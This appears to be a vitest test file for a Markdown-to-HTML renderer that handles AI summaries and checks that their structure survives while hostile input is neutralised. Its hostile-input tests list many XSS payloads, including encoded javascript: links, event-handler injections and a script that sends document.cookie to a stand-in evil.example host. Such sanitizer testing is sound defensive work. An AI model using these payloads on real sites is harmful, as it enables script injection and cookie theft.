// renderMarkdown: the AI summaries' Markdown (untrusted model output) → HTML for feeds and pages. Real
// summaries keep their structure; hostile input comes out inert.
import { readdirSync, readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "../../lib/render/markdown";
import { illegalXmlContext } from "../helpers/fixtures";
import { htmlSafetyProblems, tagsOf } from "../helpers/html-safety";

const SUMMARIES = fileURLToPath(new URL("../fixtures/summaries/", import.meta.url));
const fixtures = readdirSync(SUMMARIES)
  .filter((f) => f.endsWith(".md"))
  .sort()
  .map((file) => ({ file, markdown: readFileSync(SUMMARIES + file, "utf8") }));

interface MdTable {
  columns: number;
  rows: number;
}

const DELIMITER_ROW = /^\s*\|?\s*:?-+:?\s*(\|\s*:?-+:?\s*)+\|?\s*$/;
const cells = (row: string) => row.trim().replace(/^\|/, "").replace(/\|$/, "").split(/(?<!\\)\|/);

/** GFM tables as the Markdown source has them: a header row, a delimiter row, then `|` rows. */
function sourceTables(markdown: string): MdTable[] {
  const lines = markdown.split("\n");
  const tables: MdTable[] = [];
  lines.forEach((line, i) => {
    if (i === 0 || !DELIMITER_ROW.test(line)) return;
    let rows = 0;
    for (let j = i + 1; j < lines.length && lines[j]!.trim().startsWith("|"); j++) rows++;
    tables.push({ columns: cells(lines[i - 1]!).length, rows });
  });
  return tables;
}

const count = (html: string, re: RegExp) => (html.match(re) ?? []).length;

describe("real summaries (test/fixtures/summaries)", () => {
  it("there are 15 of them, with headings and tables to check", () => {
    expect(fixtures).toHaveLength(15);
    expect(fixtures.filter((f) => sourceTables(f.markdown).length > 0).length).toBeGreaterThanOrEqual(10);
  });

  it.each(fixtures)("$file keeps every ## heading as an <h2>", ({ markdown }) => {
    const html = renderMarkdown(markdown);
    const headings = markdown.split("\n").filter((l) => l.startsWith("## "));
    expect(headings.length).toBeGreaterThan(0);
    expect(count(html, /<h2>/g)).toBe(headings.length);
    expect(count(html, /<h1>/g)).toBe(markdown.split("\n").filter((l) => l.startsWith("# ")).length);
    expect(count(html, /<h3>/g)).toBe(markdown.split("\n").filter((l) => l.startsWith("### ")).length);
    // The heading text itself survives (escaped as text, mojibake and all).
    const firstH2 = headings[0]!.slice(3).trim();
    const rendered = [...html.matchAll(/<h2>([\s\S]*?)<\/h2>/g)].map((m) => m[1]!);
    expect(rendered[0]!.replace(/<[^>]+>/g, "")).toBe(firstH2.replace(/\*\*/g, "").replace(/&/g, "&amp;"));
  });

  it.each(fixtures)("$file keeps its GFM tables: <table>, <thead>, one <th> per column, every row", ({ markdown }) => {
    const html = renderMarkdown(markdown);
    const expected = sourceTables(markdown);
    const tables = [...html.matchAll(/<table>([\s\S]*?)<\/table>/g)].map((m) => m[1]!);
    expect(tables).toHaveLength(expected.length);
    tables.forEach((table, i) => {
      const want = expected[i]!;
      const thead = /<thead>([\s\S]*?)<\/thead>/.exec(table)?.[1];
      expect(thead, `table ${i}`).toBeDefined();
      expect(count(thead!, /<th[\s>]/g), `table ${i} columns`).toBe(want.columns);
      const tbody = /<tbody>([\s\S]*?)<\/tbody>/.exec(table)?.[1] ?? "";
      const rows = [...tbody.matchAll(/<tr>([\s\S]*?)<\/tr>/g)].map((m) => m[1]!);
      expect(rows, `table ${i} rows`).toHaveLength(want.rows);
      for (const row of rows) expect(count(row, /<td[\s>]/g), `table ${i} cells`).toBe(want.columns);
    });
  });

  it.each(fixtures)("$file keeps lists, bold, rules and blockquotes, and is inert", ({ markdown }) => {
    const html = renderMarkdown(markdown);
    if (/^\s*[-*] /m.test(markdown)) expect(html).toContain("<ul>");
    if (/^\s*\d+\. /m.test(markdown)) expect(html).toContain("<ol>");
    if (/\*\*[^*\n]+\*\*/.test(markdown)) expect(html).toContain("<strong>");
    if (/^---\s*$/m.test(markdown)) expect(html).toContain("<hr>");
    if (/^>/m.test(markdown)) expect(html).toContain("<blockquote>");
    // No Markdown syntax leaks through as text where structure was meant.
    expect(html).not.toMatch(/<p>#{1,6} /);
    expect(html).not.toMatch(/<p>\|[-: |]+\|<\/p>/);
    expect(htmlSafetyProblems(html)).toEqual([]);
    expect(illegalXmlContext(html)).toBeNull();
  });
});

describe("the safety check used below", () => {
  it("flags what a permissive renderer would let through, and passes what markdown-it writes", () => {
    for (const bad of [
      "<script>alert(1)</script>",
      '<p onclick="alert(1)">x</p>',
      "<div/onmouseover=alert(1)>x</div>",
      '<a href="javascript:alert(1)">x</a>',
      '<a href="&#106;avascript:alert(1)">x</a>',
      '<a href=" java\tscript:alert(1)">x</a>',
      '<a href="VBScript:x">x</a>',
      '<a href="data:text/html,x">x</a>',
      '<img src="https://t.example/p.png">',
      '<iframe src="https://evil.example"></iframe>',
      '<td style="background:red">x</td>',
    ]) {
      expect(htmlSafetyProblems(bad), bad).not.toEqual([]);
    }
    for (const good of [
      '<p><a href="https://example.org" rel="nofollow noopener noreferrer" title="a&quot; onclick=&quot;x">x</a></p>',
      '<th style="text-align:right">x</th>',
      "<p>&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt;</p>",
    ]) {
      expect(htmlSafetyProblems(good), good).toEqual([]);
    }
  });
});

describe("hostile Markdown is inert", () => {
  const hostile: [string, string][] = [
    ["script element", "Hello <script>alert(1)</script> world"],
    ["script block", "<script>\nfetch('https://evil.example/?c=' + document.cookie)\n</script>"],
    ["img onerror", '<img src=x onerror="alert(1)">'],
    ["img onerror, unquoted", "<img src=x onerror=alert(1)>"],
    ["iframe", '<iframe src="https://evil.example"></iframe>'],
    ["raw a javascript:", '<a href="javascript:alert(1)">click</a>'],
    ["link javascript:", "[x](javascript:alert(1))"],
    ["link JaVaScRiPt:", "[x](JaVaScRiPt:alert(1))"],
    ["link with leading space", "[x]( javascript:alert(1))"],
    ["link in angle brackets", "[x](<javascript:alert(1)>)"],
    ["link, entity-encoded scheme", "[x](&#106;avascript:alert(1))"],
    ["link, hex entity scheme", "[x](&#x6A;&#x61;vascript:alert(1))"],
    ["link, &colon;", "[x](javascript&colon;alert(1))"],
    ["link, percent-encoded", "[x](javascript%3Aalert(1))"],
    ["link vbscript:", "[x](vbscript:msgbox(1))"],
    ["link data:text/html", "[x](data:text/html,<script>alert(1)</script>)"],
    ["link data:text/html base64", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
    ["link data:image/svg+xml", "[x](data:image/svg+xml,%3Csvg%20onload%3Dalert(1)%3E)"],
    ["link file:", "[x](file:///etc/passwd)"],
    ["reference link javascript:", "[x][evil]\n\n[evil]: javascript:alert(1)"],
    ["autolink javascript:", "<javascript:alert(1)>"],
    ["bare javascript: text", "see javascript:alert(1) here"],
    ["div onmouseover", '<div onmouseover="alert(1)">hover me</div>'],
    ["inline span onclick", "text <span onclick=alert(1)>y</span> more"],
    ["svg onload", "<svg/onload=alert(1)>"],
    ["details ontoggle", "<details open ontoggle=alert(1)>x</details>"],
    ["style element", "<style>body { display: none }</style>"],
    ["style attribute", '<p style="background:url(javascript:alert(1))">x</p>'],
    ["math xlink", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
    ["object/embed", '<object data="evil.swf"></object><embed src="evil.swf">'],
    ["form", '<form action="https://evil.example"><input name=p><button>go</button></form>'],
    ["meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ["base", '<base href="https://evil.example/">'],
    ["html comment", "<!-- <script>alert(1)</script> -->"],
    ["CDATA end", "a ]]> b <![CDATA[ <script>alert(1)</script> ]]>"],
    ["title attribute breakout", '[x](https://example.org "t\\" onmouseover=\\"alert(1)")'],
    ["url quote breakout", '[x](https://example.org/"onmouseover="alert(1))'],
    ["image", "![pixel](https://tracker.example/p.png)"],
    ["image with onerror in alt", '![x" onerror="alert(1)](https://tracker.example/p.png)'],
    ["reference image", "![pixel][p]\n\n[p]: https://tracker.example/p.png"],
    ["heading with html", "## <img src=x onerror=alert(1)> Results"],
    ["table with html", "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |\n| <img src=x onerror=alert(1)> | ok |"],
    ["blockquote with html", "> <iframe src=//evil.example></iframe>\n> [x](vbscript:msgbox(1))"],
    ["list with html", "- <a href=javascript:alert(1)>x</a>\n- <b onclick=alert(1)>y</b>"],
    ["code span", "`<script>alert(1)</script>`"],
    ["fenced code", "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```"],
    ["nested emphasis with html", "**<script>alert(1)</script>** _<img src=x onerror=alert(1)>_"],
  ];

  it.each(hostile)("%s", (_name, markdown) => {
    const html = renderMarkdown(markdown);
    expect(htmlSafetyProblems(html)).toEqual([]);
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<img/i);
    expect(html).not.toMatch(/<iframe/i);
    for (const tag of tagsOf(html)) {
      expect(tag.replace(/"[^"]*"|'[^']*'/g, '""')).not.toMatch(/\son\w+\s*=/i);
      expect(tag).not.toMatch(/\shref\s*=\s*["']?\s*(javascript|vbscript|data):/i);
    }
    // A CDATA section of an RSS item could not be closed early by it.
    expect(html).not.toContain("]]>");
  });

  it("raw HTML is shown as text, escaped, not dropped", () => {
    expect(renderMarkdown("Hello <script>alert(1)</script> world")).toBe("<p>Hello &lt;script&gt;alert(1)&lt;/script&gt; world</p>\n");
    expect(renderMarkdown('<div onmouseover="alert(1)">hover me</div>')).toBe(
      "<p>&lt;div onmouseover=&quot;alert(1)&quot;&gt;hover me&lt;/div&gt;</p>\n",
    );
    expect(renderMarkdown("a <b>bold</b> claim")).toBe("<p>a &lt;b&gt;bold&lt;/b&gt; claim</p>\n");
  });

  it("a refused link stays visible as text, with no <a>", () => {
    for (const md of ["[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](vbscript:msgbox(1))", "[x](data:text/html,hi)"]) {
      const html = renderMarkdown(md);
      expect(html, md).not.toContain("<a");
      expect(html, md).toContain("[x](");
    }
  });

  it("images produce no <img> at all, inline or by reference", () => {
    for (const md of ["![a](https://t.example/a.png)", '![a](https://t.example/a.png "t")', "![a][r]\n\n[r]: https://t.example/r.png"]) {
      expect(renderMarkdown(md), md).not.toMatch(/<img/i);
    }
  });
});

describe("links", () => {
  const REL = 'rel="nofollow noopener noreferrer"';

  it("an inline link keeps its URL and text and gets rel=nofollow noopener noreferrer", () => {
    expect(renderMarkdown("[the paper](https://arxiv.org/abs/2606.12345)")).toBe(
      `<p><a href="https://arxiv.org/abs/2606.12345" ${REL}>the paper</a></p>\n`,
    );
  });

  it("every kind of link gets the rel: titled, reference, autolink, bare URL, mailto", () => {
    const cases = [
      '[t](https://example.org "Title")',
      "[r][ref]\n\n[ref]: https://example.org/ref",
      "<https://example.org/auto>",
      "see https://example.org/bare and www.example.com",
      "[m](mailto:someone@example.org)",
      "| link |\n|---|\n| [cell](https://example.org/cell) |",
    ];
    for (const md of cases) {
      const html = renderMarkdown(md);
      const anchors = tagsOf(html).filter((t) => t.startsWith("<a "));
      expect(anchors.length, md).toBeGreaterThan(0);
      for (const a of anchors) expect(a, md).toContain(REL);
    }
  });

  it.each(["/relative/path", "//evil.example/x", "ftp://example.org/f", "javascript:alert(1)", "data:text/html,x", "JAVASCRIPT:alert(1)"])(
    "a link to %s is only its text",
    (url) => {
      const html = renderMarkdown(`[click](${url}) and <${url}>`);
      expect(html).not.toMatch(/<a\b/);
      expect(html).toContain("click");
    },
  );

  it("a link title is escaped, not an attribute breakout", () => {
    const html = renderMarkdown('[x](https://example.org "t\\" onmouseover=\\"alert(1)")');
    expect(html).toContain('title="t&quot; onmouseover=&quot;alert(1)"');
  });
});

describe("text hygiene", () => {
  it("strips characters XML 1.0 forbids, keeping tab and newline", () => {
    const html = renderMarkdown("a\u0001b\u0008c\u000Bd\u000Ce\u001Ff\uFFFEg\uFFFFh\uD800i\uDC00j\tk\nl 😀 注意");
    expect(illegalXmlContext(html)).toBeNull();
    expect(html).toContain("abcdefghij\tk\nl 😀 注意");
  });

  it("a NUL becomes the replacement character, never a raw NUL", () => {
    const html = renderMarkdown("a\u0000b");
    expect(html).not.toContain("\u0000");
    expect(illegalXmlContext(html)).toBeNull();
  });

  it("keeps GFM strikethrough and tables in a small summary", () => {
    const html = renderMarkdown("## Results\n\n| Model | Acc |\n|:--|--:|\n| A | 90% |\n\n~~old~~ **new**");
    expect(html).toContain("<h2>Results</h2>");
    expect(html).toMatch(/<table>\s*<thead>\s*<tr>\s*<th style="text-align:left">Model<\/th>\s*<th style="text-align:right">Acc<\/th>/);
    expect(html).toContain("<s>old</s> <strong>new</strong>");
  });
});

describe("math and headings on the page", () => {
  it("TeX becomes MathML with its source kept; code and money stay as written; feeds keep the TeX", () => {
    const md = "Loss $\\mathcal{L}=x^2$ and \\(a_i\\) cost $5 and $10.\n\nIn code: `$not math$`; broken $\\frac{1$.";
    const page = renderMarkdown(md, { math: true });
    expect(page.match(/<math\b/g)).toHaveLength(2);
    expect(page).toContain("\\mathcal{L}=x^2");
    expect(page).toContain("$5 and $10");
    expect(page).toContain("<code>$not math$</code>");
    expect(page).toContain("$\\frac{1$");
    expect(renderMarkdown(md)).not.toContain("<math");
  });

  it("headings move down by the offset, never past h6", () => {
    const html = renderMarkdown("# One\n\n## Two\n\n##### Five", { headingOffset: 3 });
    expect(html).toContain("<h4>One</h4>");
    expect(html).toContain("<h5>Two</h5>");
    expect(html).toContain("<h6>Five</h6>");
    expect(renderMarkdown("# One")).toContain("<h1>One</h1>");
  });
});
